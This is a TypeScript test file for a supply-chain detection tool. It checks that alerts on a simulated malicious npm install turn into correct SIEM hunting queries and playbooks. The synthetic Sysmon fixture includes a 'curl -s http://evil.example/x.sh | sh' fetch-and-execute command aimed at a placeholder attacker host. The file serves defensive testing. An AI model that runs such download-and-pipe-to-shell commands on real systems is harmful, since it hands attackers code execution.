import { DuckDBInstance } from '@duckdb/node-api';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEventsTable } from '../../src/backends/sql-events.js';
import type { NormalizedEvent } from '../../src/events/event.js';
import { frameTimeWindow } from '../../src/response/investigation.js';
import { readInputs } from '../../src/sources/open.js';
import { runCli } from '../helpers/cli.js';

/**
 * An install on a host whose name needs quoting in every language: npm (100) → sh (101) → curl
 * (102), curl resolving and connecting, sh writing ~/.bashrc; decoys on another host, two hours
 * later, from another process, and the user's shell above the install (50). Each event carries
 * a Marker field naming it, so the rows a query returns can be told apart.
 */
const HOST = `dev'ws"1`;
const SUSPICIOUS_EXECUTION = '924bb489-6e8d-4410-8353-3ad2610975c1';
type Spec = { eid: number; qid: string; t: string; marker: string; host?: string; [field: string]: unknown };
const EVENTS: Spec[] = [
  { eid: 1, qid: 'Process Create', t: '10:00:00.000', marker: 'user-shell', ProcessId: 50, ParentProcessId: 1, Image: '/usr/bin/bash', CommandLine: 'bash', ParentImage: '/usr/sbin/sshd' },
  { eid: 1, qid: 'Process Create', t: '10:00:01.000', marker: 'root', ProcessId: 100, ParentProcessId: 50, Image: '/usr/bin/node', CommandLine: 'npm install evil-pkg', ParentImage: '/usr/bin/bash' },
  { eid: 1, qid: 'Process Create', t: '10:00:02.000', marker: 'script', ProcessId: 101, ParentProcessId: 100, Image: '/bin/sh', CommandLine: 'sh -c node install.js', ParentImage: '/usr/bin/node' },
  { eid: 1, qid: 'Process Create', t: '10:00:03.000', marker: 'curl', ProcessId: 102, ParentProcessId: 101, Image: '/usr/bin/curl', CommandLine: 'curl -s http://evil.example/x.sh | sh', ParentImage: '/bin/sh' },
  { eid: 22, qid: 'DNS Query', t: '10:00:03.500', marker: 'dns', ProcessId: 102, Image: '/usr/bin/curl', QueryName: 'evil.example' },
  { eid: 3, qid: 'Network Connection Detected', t: '10:00:04.000', marker: 'conn', ProcessId: 102, Image: '/usr/bin/curl', DestinationIp: '203.0.113.9', DestinationPort: 80, Initiated: 'true' },
  { eid: 11, qid: 'File Created', t: '10:00:05.000', marker: 'write', ProcessId: 101, Image: '/bin/sh', TargetFilename: '/home/dev/.bashrc' },
  { eid: 3, qid: 'Network Connection Detected', t: '10:00:04.000', marker: 'other-host', host: 'ws2', ProcessId: 102, Image: '/usr/bin/curl', DestinationIp: '203.0.113.9', DestinationPort: 80, Initiated: 'true' },
  { eid: 3, qid: 'Network Connection Detected', t: '12:00:04.000', marker: 'too-late', ProcessId: 102, Image: '/usr/bin/curl', DestinationIp: '203.0.113.9', DestinationPort: 80, Initiated: 'true' },
  { eid: 3, qid: 'Network Connection Detected', t: '10:00:04.000', marker: 'other-process', ProcessId: 900, Image: '/usr/bin/firefox', DestinationIp: '198.51.100.1', DestinationPort: 443, Initiated: 'true' },
];
const EXPECTED: Record<string, string[]> = {
  'process starts of the install subtree': ['curl', 'root', 'script'],
  'network connections of the install subtree': ['conn'],
  'DNS queries of the install subtree': ['dns'],
  'file writes of the install subtree': ['write'],
};

function sysmonLine({ eid, t, marker, host, qid: _qid, ...fields }: Spec): string {
  return JSON.stringify({ Channel: 'Microsoft-Windows-Sysmon/Operational', Provider_Name: 'Microsoft-Windows-Sysmon', Computer: host ?? HOST, EventID: eid, UtcTime: `2026-12-01 ${t}`, Marker: marker, ...fields });
}

/** The same events as a QRadar JSON export (Sysmon DSM property names). */
function qradarEvent({ qid, t, marker, host, Image, CommandLine, ParentImage, TargetFilename, eid: _eid, ...rest }: Spec) {
  const e: Record<string, unknown> = { starttime: Date.parse(`2026-12-01T${t}Z`), qidname: qid, devicehostname: host ?? HOST, Marker: marker, 'Process Name': Image };
  if (CommandLine) e.Command = CommandLine;
  if (ParentImage) e['Parent Process Name'] = ParentImage;
  if (TargetFilename) e['File Path'] = TargetFilename;
  for (const [k, v] of Object.entries(rest)) e[k] = String(v);
  return e;
}

/** `# title` then the query's lines, up to a blank line. */
function queriesOf(text: string): Map<string, string> {
  const out = new Map<string, string>();
  const blocks = text.split('\nINVESTIGATION')[1]!.split('\n# ').slice(1);
  for (const block of blocks) {
    const [title, ...lines] = block.split('\n');
    out.set(title!, lines.join('\n').trim());
  }
  return out;
}

let dir: string;
let events: string;
let alerts: string;
let alertId: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'sw-investigation-'));
  events = join(dir, 'events.ndjson');
  writeFileSync(events, EVENTS.map(sysmonLine).join('\n') + '\n');
  const scan = await runCli(['scan', '-r', 'hardened', '-f', 'jsonl', '-q', events]);
  expect(scan.status).toBe(1);
  alerts = join(dir, 'alerts.jsonl');
  writeFileSync(alerts, scan.stdout);
  const line = scan.stdout.split('\n').map((l) => (l ? JSON.parse(l) : undefined)).find((a) => a?.rule.id === SUSPICIOUS_EXECUTION);
  alertId = line.alert_id;
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('explain ALERT --to: the next queries, through the converters', () => {
  it('SQL: each query runs in DuckDB and returns exactly the install subtree rows of its kind, in the window, on that host', async () => {
    const r = await runCli(['explain', alertId, '--alerts', alerts, '--to', 'sql']);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(r.stdout).toContain(`ALERT ${alertId}  HIGH  Suspicious Execution Inside a Package Install Subtree`);
    expect(r.stdout).toMatch(/process ids 100, 101, 102\n/);
    const queries = queriesOf(r.stdout);
    expect([...queries.keys()]).toEqual(Object.keys(EXPECTED));

    const loaded: NormalizedEvent[] = [];
    for await (const b of readInputs([events], { onBad: () => {} })) loaded.push(...b.events);
    expect(loaded).toHaveLength(EVENTS.length);
    const instance = await DuckDBInstance.create(':memory:');
    const db = await instance.connect();
    await createEventsTable(db, loaded);
    for (const [title, sql] of queries) {
      const rows = (await db.runAndReadAll(sql.replace('SELECT *', 'SELECT "Marker"'))).getRows().map((row) => String(row[0]));
      expect(rows.sort(), title).toEqual(EXPECTED[title]);
    }
    db.closeSync();
  });

  it('AQL: each expressible query, run by `aql run` over a QRadar export of the same events, returns the same rows', async () => {
    const exportFile = join(dir, 'export.json');
    writeFileSync(exportFile, JSON.stringify({ events: EVENTS.map(qradarEvent) }));
    const r = await runCli(['explain', alertId, '--alerts', alerts, '--to', 'aql']);
    expect(r.status).toBe(0);
    const queries = queriesOf(r.stdout);
    // QRadar has no DNS-query QID mapping: said so, not guessed.
    expect(queries.get('DNS queries of the install subtree')).toMatch(/^\(not expressible in aql: .*dns_query/);
    for (const [title, aql] of queries) {
      if (aql.startsWith('(not expressible')) continue;
      const run = await runCli(['aql', 'run', aql, '--events', exportFile, '-f', 'jsonl', '-q']);
      expect(run.stderr, title).toBe('');
      const rows = run.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l).Marker as string);
      expect(rows.sort(), title).toEqual(EXPECTED[title]);
    }
  });

  it('SPL, KQL and ES|QL: the host quoted by the backends, the absolute window framed', async () => {
    const spl = await runCli(['explain', alertId, '--alerts', alerts, '--to', 'spl']);
    expect(spl.stdout).toContain(`earliest=1796118603 latest=1796119803 source="XmlWinEventLog:Microsoft-Windows-Sysmon/Operational" EventCode=1 Computer="dev'ws\\"1"`);
    const kql = await runCli(['explain', alertId, '--alerts', alerts, '--to', 'kql', '--minutes', '5']);
    expect(kql.stdout).toContain('| where Timestamp between (datetime(2026-12-01T09:55:03.000Z) .. datetime(2026-12-01T10:05:03.000Z))');
    expect(kql.stdout).toContain(`DeviceName =~ "dev'ws\\"1"`);
    const esql = await runCli(['explain', alertId, '--alerts', alerts, '--to', 'esql']);
    expect(esql.stdout).toContain('| where @timestamp >= to_datetime("2026-12-01T09:50:03.000Z") and @timestamp <= to_datetime("2026-12-01T10:10:03.000Z")');
  });

  it('reads the alert from stdin and by file; names a bad line and goes on', async () => {
    const line = (await runCli(['explain', alertId, '--alerts', alerts])).stdout;
    const viaStdin = await runCli(['explain', '-'], 'not json\n' + JSON.stringify({ hello: 1 }) + '\n');
    expect(viaStdin.status).toBe(2);
    expect(viaStdin.stderr).toContain('stdin:1: not JSON');
    expect(viaStdin.stderr).toContain('stdin:2: not a supplywatch alert (no rule)');
    expect(line).toContain('PLAYBOOK for rule 924bb489-6e8d-4410-8353-3ad2610975c1');
    expect(line).toContain('Eradication');
    const all = await runCli(['explain', alerts]);
    expect(all.status).toBe(0);
    const lines = readFileSync(alerts, 'utf8').split('\n').filter(Boolean);
    expect(lines.length).toBeGreaterThan(1);
    expect(all.stdout.match(/^ALERT sw-/gm)!.length).toBe(lines.length);
  });

  it('refuses an edited line whose alert id no longer matches its rule and event', async () => {
    const first = (await runCli(['scan', '-r', 'hardened', '-f', 'jsonl', '-q', events])).stdout.split('\n')[0]!;
    const edited = first.replace('"host":"dev\'ws\\"1"', '"host":"elsewhere"');
    expect(edited).not.toBe(first);
    const r = await runCli(['explain', '-'], edited + '\n');
    expect(r.stderr).toMatch(/stdin:1: alert_id sw-[0-9a-f]{16} does not match/);
  });

  it('a rule id prints its playbook; an unknown one is a usage error', async () => {
    const ok = await runCli(['explain', SUSPICIOUS_EXECUTION]);
    expect(ok.status).toBe(0);
    expect(ok.stdout).toMatch(/^PLAYBOOK for rule 924bb489/);
    expect(ok.stdout).toContain('~/.npm/_cacache');
    const missing = await runCli(['explain', alertId, '--alerts', join(dir, 'absent.jsonl')]);
    expect(missing.status).toBe(2);
    expect(missing.stderr).toMatch(/cannot read the alerts .*absent\.jsonl: ENOENT/);
    const bad = await runCli(['explain', 'no-such-rule']);
    expect(bad.status).toBe(2);
    expect(bad.stderr).toContain("no playbook for rule 'no-such-rule'");
  });
});

describe('frameTimeWindow', () => {
  it('replaces the frame only where the backend puts it', () => {
    const window = { from: 1000, to: 2000 };
    expect(frameTimeWindow('sql', 'SELECT * FROM events WHERE "_time" > epoch_ms(now()) - 60000 AND (x)', window)).toBe('SELECT * FROM events WHERE "_time" BETWEEN 1000 AND 2000 AND (x)');
    // The same text inside a value, not at the frame's place, is never rewritten.
    expect(() => frameTimeWindow('sql', `SELECT * FROM events WHERE "Computer" = '"_time" > epoch_ms(now()) - 60000'`, window)).toThrow(/time frame/);
    expect(() => frameTimeWindow('kql', 'DeviceProcessEvents\n| where x', window)).toThrow(/time frame/);
  });
});
